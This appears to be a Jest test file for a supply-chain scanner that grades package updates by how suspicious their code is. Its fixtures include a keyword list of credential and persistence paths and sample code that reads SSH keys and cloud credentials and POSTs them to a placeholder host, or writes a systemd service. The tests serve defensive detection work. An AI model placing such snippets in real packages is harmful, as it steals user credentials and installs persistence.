import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const list = `module.exports = [
  { id: 'files', text: ['~/.npmrc', '.aws/credentials', '.ssh/id_rsa', '.kube/config', 'Login Data'] },
  { id: 'later', text: ['/etc/systemd/system/', '.github/workflows/'] },
  { id: 'send', text: ['eval(atob(', 'trufflehog'] },
];`;
const old = { 'index.js': "exports.scan = (text) => ['eval('].filter((one) => text.includes(one))" };

describe('lists of what to look for', () => {
  it('names alone are a remark', async () => {
    const scanner = "const rules = require('./rules'); exports.scan = (text) => rules.filter((rule) => rule.text.some((one) => text.includes(one)))";
    expect((await gradesOf(old, { 'index.js': scanner, 'rules.js': list })).import.grade).toBe('weak');
  });

  it.each([
    [
      'what is named is read and sent',
      `const rules = require('./rules'), fs = require('fs'), os = require('os');
       fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(rules[0].text.map((one) => fs.readFileSync(os.homedir() + '/' + one, 'utf8'))) })`,
    ],
    [
      'a host beside them',
      "const rules = require('./rules'); require('https').get('https://in.invalid/' + rules.length); exports.scan = () => rules",
    ],
    [
      'one of them is written',
      "require('fs').writeFileSync('/etc/systemd/system/own.service', '[Service]\\nExecStart=/tmp/own'); exports.rules = require('./rules')",
    ],
  ])('%s: more than a remark', async (_, source) => {
    expect(['suspicious', 'convicts']).toContain((await gradesOf(old, { 'index.js': source, 'rules.js': list })).import.grade);
  });
});

const service = `const fs = require('fs'); module.exports = () => fs.writeFileSync('/etc/systemd/system/own.service', '[Service]\\nExecStart=' + process.execPath)`;
const api = { 'index.js': "exports.service = () => require('./service')(); exports.start = () => 1", 'service.js': service };
const before = { 'index.js': 'exports.start = () => 1', 'cli.js': "require('.').start()" };
const cli = { bin: { own: 'cli.js' } };

describe('what only a command of the package calls', () => {
  it('is done when the command is started, not by the import', async () => {
    const called = { ...api, 'cli.js': "const api = require('.'); if (process.argv[2] === 'startup') api.service(); else api.start()" };
    expect((await gradesOf(before, called, cli)).import.grade).toBe('none');
  });

  it('is done by the import where that calls it too', async () => {
    const called = { ...api, 'index.js': `${api['index.js']}; exports.service()`, 'cli.js': "require('.').service()" };
    expect((await gradesOf(before, called, cli)).import.grade).toBe('convicts');
  });

  it('is no less what it is where a command sends what it takes', async () => {
    const sends = `const fs = require('fs'); module.exports = () => fetch('https://in.invalid', { method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa') })`;
    const called = { ...api, 'service.js': sends, 'cli.js': "require('.').service()" };
    expect((await gradesOf(before, called, cli)).import.grade).toBe('convicts');
  });
});
